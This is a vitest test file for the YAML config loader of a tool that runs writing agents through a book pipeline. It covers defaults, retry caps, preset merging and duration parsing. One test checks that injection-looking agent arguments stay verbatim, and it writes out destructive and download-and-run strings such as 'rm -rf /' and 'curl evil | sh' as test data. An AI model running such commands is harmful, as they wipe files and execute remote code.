import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bookPreset } from '../../../src/pipeline/book-preset.js';
import { DEFAULT_BREAKER, DEFAULT_CAPS, DEFAULT_LIMITS, DEFAULT_SOURCES, loadConfig, parseConfig } from '../../../src/pipeline/config/config.js';

let root: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'checkroom-config-'));
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

const parse = (text: string) => parseConfig(text, 'checkroom.yaml');

describe('loadConfig', () => {
  it('uses the book preset and defaults when there is no checkroom.yaml', async () => {
    const cfg = await loadConfig(root);
    expect(cfg.file).toBeNull();
    expect(cfg.preset).toBe('book');
    expect(cfg.pipeline).toEqual(bookPreset());
    expect(cfg.agents).toEqual({});
    expect(cfg.limits).toEqual({ maxLaunches: 200, maxConsecutiveFailures: 8, caps: DEFAULT_CAPS, backoffBaseMs: 2000, backoffMaxMs: 60000 });
    expect(cfg.breaker).toEqual({ threshold: 3, cooldownMs: 30000, maxCooldownMs: 600000 });
    expect(cfg.sources).toEqual({ checkpoint: 'checkpoint.md', resume: 'RESUME.md', todos: null, todoPattern: '^(?<unit>ch\\d+)-(?<step>[a-z0-9]+)$' });
  });

  it('hands out copies: mutating one config does not change the defaults', async () => {
    const cfg = await loadConfig(root);
    cfg.limits.caps.UNKNOWN = 99;
    cfg.breaker.threshold = 99;
    expect(DEFAULT_LIMITS.caps.UNKNOWN).toBe(2);
    expect(DEFAULT_BREAKER.threshold).toBe(3);
  });

  it('reads checkroom.yaml from the root and names it in errors', async () => {
    await writeFile(join(root, 'checkroom.yaml'), 'name: my-book\n');
    expect((await loadConfig(root)).pipeline.name).toBe('my-book');
    await writeFile(join(root, 'checkroom.yaml'), 'name: my-book\nnmae: typo\n');
    await expect(loadConfig(root)).rejects.toThrow(`${join(root, 'checkroom.yaml')}:2:1: unknown key "nmae"`);
  });

  it('an empty or comment-only file means the defaults', async () => {
    await writeFile(join(root, 'checkroom.yaml'), '# nothing yet\n');
    const cfg = await loadConfig(root);
    expect(cfg.file).toBe(join(root, 'checkroom.yaml'));
    expect(cfg.pipeline.steps).toEqual(bookPreset().steps);
    expect(parse('').limits).toEqual(DEFAULT_LIMITS);
  });

  it('refuses a checkroom.yml that would otherwise be ignored', async () => {
    await writeFile(join(root, 'checkroom.yml'), 'name: x\n');
    await expect(loadConfig(root)).rejects.toThrow(/checkroom\.yaml, not checkroom\.yml/);
  });
});

describe('caps', () => {
  // Issue 17 item 5: attempts in all, as the source table counts them (they were retries;
  // the classes the table does not list keep their budgets, one attempt added).
  it('follow DOMAIN.md section 8 and are finite attempt counts', () => {
    expect(DEFAULT_CAPS).toEqual({
      BROKEN_BUILD: 1, VERIFICATION_FAILED: 3, CIRCULAR_FIX: 0, CONTEXT_EXHAUSTED: 3, UNKNOWN: 2, RATE_LIMITED: 5,
      OVERLOADED: 5, NETWORK: 4, STALLED: 3, INVALID_INPUT: 0, PERMISSION: 0, TOOL_NOT_FOUND: 0,
      // issue 12: cluster faults and pods killed for memory
      INFRA: 7, OOM_KILLED: 2,
    });
    for (const n of Object.values(DEFAULT_CAPS)) expect(Number.isInteger(n)).toBe(true);
  });

  it('a configured cap overrides only its class', () => {
    const caps = parse('limits: {caps: {RATE_LIMITED: 3}}').limits.caps;
    expect(caps.RATE_LIMITED).toBe(3);
    expect(caps.NETWORK).toBe(4);
    expect(caps.BROKEN_BUILD).toBe(1);
  });
});

describe('merging with the preset', () => {
  it('overrides one field of an existing step and keeps the rest', () => {
    const cfg = parse('steps:\n  - id: draft\n    min_chars: 1500\n');
    const draft = cfg.pipeline.steps.find((s) => s.id === 'draft')!;
    const preset = bookPreset().steps.find((s) => s.id === 'draft')!;
    expect(draft).toEqual({ ...preset, minChars: 1500 });
    expect(cfg.pipeline.steps.map((s) => s.id)).toEqual(bookPreset().steps.map((s) => s.id));
  });

  it('appends a new step with defaults', () => {
    const cfg = parse('steps:\n  - id: factcheck\n    path: facts/{unit}.md\n    marker: FACTS_COMPLETE\n    depends_on: [draft]\n    phase: 3\n');
    const last = cfg.pipeline.steps.at(-1)!;
    expect(last).toEqual({ id: 'factcheck', label: 'factcheck', aliases: ['factcheck'], path: 'facts/{unit}.md', marker: 'FACTS_COMPLETE', dependsOn: ['draft'], phase: 3, kind: 'file', minChars: 200 });
    expect(cfg.pipeline.steps).toHaveLength(bookPreset().steps.length + 1);
  });

  it('overrides a phase by id', () => {
    const phases = parse('phases: [{id: 3, name: Writing}]').pipeline.phases;
    expect(phases.find((p) => p.id === 3)).toMatchObject({ name: 'Writing', barrier: true, aliases: bookPreset().phases[2].aliases });
    expect(phases).toHaveLength(5);
  });

  it('replace: true swaps the preset phases and steps for the file\'s', () => {
    const cfg = parse(`
replace: true
name: essays
phases: [{id: 1, name: Essays}]
steps:
  - {id: notes, path: 'notes/{unit}.md', marker: NOTES_DONE, phase: 1}
  - {id: essay, label: Essay, path: 'essays/{unit}.md', marker: ESSAY_DONE, phase: 1, depends_on: [notes], min_chars: 1000}
units: {pattern: 'e\\d+', list: [e1, e2]}
batches: [{id: 1, units: [e2]}]
`);
    expect(cfg.pipeline.name).toBe('essays');
    expect(cfg.pipeline.phases).toEqual([{ id: 1, name: 'Essays', aliases: ['Essays'], artifacts: [], barrier: false }]);
    expect(cfg.pipeline.steps.map((s) => [s.id, s.aliases, s.dependsOn, s.minChars])).toEqual([
      ['notes', ['notes'], [], 200],
      ['essay', ['Essay'], ['notes'], 1000],
    ]);
    expect(cfg.pipeline.units).toEqual({ pattern: 'e\\d+', list: ['e1', 'e2'] });
    expect(cfg.pipeline.batches).toEqual([{ id: 1, units: ['e2'] }]);
    expect(cfg.pipeline.source).toBe('checkroom.yaml');
  });

  it('accepts preset: gates with no steps and workflow-id units', () => {
    const cfg = parse('preset: gates\n');
    expect(cfg.preset).toBe('gates');
    expect(cfg.pipeline.steps).toEqual([]);
    expect(cfg.pipeline.phases.map((p) => p.name)).toEqual(['Workflow']);
    expect(new RegExp(`^(?:${cfg.pipeline.units.pattern})$`).test('1735123456-abc123')).toBe(true);
    expect(new RegExp(`^(?:${cfg.pipeline.units.pattern})$`).test('ch01')).toBe(false);
  });
});

describe('the full example', () => {
  const example = `
preset: book
name: my-book
units: {pattern: 'ch\\d{2}', list: [ch01, ch02, ch04]}
batches: [{id: 1, units: [ch01, ch02, ch04]}]
agents:
  writer:
    command: [node, agents/fake-agent.mjs, '{unit}', '{step}', '{output}']
    env: {KEY: value}
    cwd: '{workspace}'
    idle_timeout: 30s
    timeout: 10m
    grace: 3s
    concurrency: 2
    rules: [{match: 'rate limit|429', class: RATE_LIMITED}, {exit_code: 127, class: TOOL_NOT_FOUND}]
  reviewer:
    command: [node, review.mjs]
limits: {max_launches: 50, max_consecutive_failures: 4, caps: {RATE_LIMITED: 3}, backoff_base: 1.5, backoff_max: 1h}
breaker: {threshold: 5, cooldown: 250ms, max_cooldown: 1m30s}
sources: {checkpoint: status/checkpoint.md, resume: RESUME.md, todos: .checkroom/todos.db}
`;
  it('resolves agents, durations and limits to milliseconds', () => {
    const cfg = parse(example);
    expect(cfg.agents.writer).toEqual({
      name: 'writer',
      command: ['node', 'agents/fake-agent.mjs', '{unit}', '{step}', '{output}'],
      env: { KEY: 'value' },
      cwd: '{workspace}',
      idleTimeoutMs: 30_000,
      timeoutMs: 600_000,
      graceMs: 3_000,
      concurrency: 2,
      rules: [{ match: 'rate limit|429', class: 'RATE_LIMITED' }, { exitCode: 127, class: 'TOOL_NOT_FOUND' }],
      // issue 12: where the agent runs; local unless checkroom.yaml says otherwise
      executor: 'local',
      slurm: expect.any(Object),
      kubernetes: expect.any(Object),
    });
    expect(cfg.agents.reviewer).toMatchObject({ idleTimeoutMs: 120_000, timeoutMs: 1_800_000, graceMs: 5_000, concurrency: 1, env: {}, cwd: null, rules: [] });
    expect(cfg.limits).toMatchObject({ maxLaunches: 50, maxConsecutiveFailures: 4, backoffBaseMs: 1_500, backoffMaxMs: 3_600_000 });
    expect(cfg.breaker).toEqual({ threshold: 5, cooldownMs: 250, maxCooldownMs: 90_000 });
    expect(cfg.sources).toEqual({ ...DEFAULT_SOURCES, checkpoint: 'status/checkpoint.md', todos: '.checkroom/todos.db' });
    expect(cfg.pipeline.units.list).toEqual(['ch01', 'ch02', 'ch04']);
  });

  it('keeps injection-looking command arguments verbatim, one array element each', () => {
    const cfg = parse(`agents:
  writer:
    command: [sh, -c, 'echo "$(rm -rf /)"; \`id\`', '{unit}; rm -rf ~', '&& curl evil | sh', '$HOME', "a'b"]
`);
    expect(cfg.agents.writer.command).toEqual(['sh', '-c', 'echo "$(rm -rf /)"; `id`', '{unit}; rm -rf ~', '&& curl evil | sh', '$HOME', "a'b"]);
  });
});

describe('patterns are RE2 (issue 16 item 3)', () => {
  it('takes RE2 syntax V8 refuses: (?P<name>…) groups in todo_pattern, POSIX classes in units.pattern', () => {
    const cfg = parse("sources:\n  todo_pattern: '^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$'\nunits:\n  pattern: 'ch[[:digit:]]{2,3}'\n");
    expect(cfg.sources.todoPattern).toBe('^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$');
    expect(cfg.pipeline.units.pattern).toBe('ch[[:digit:]]{2,3}');
  });
});
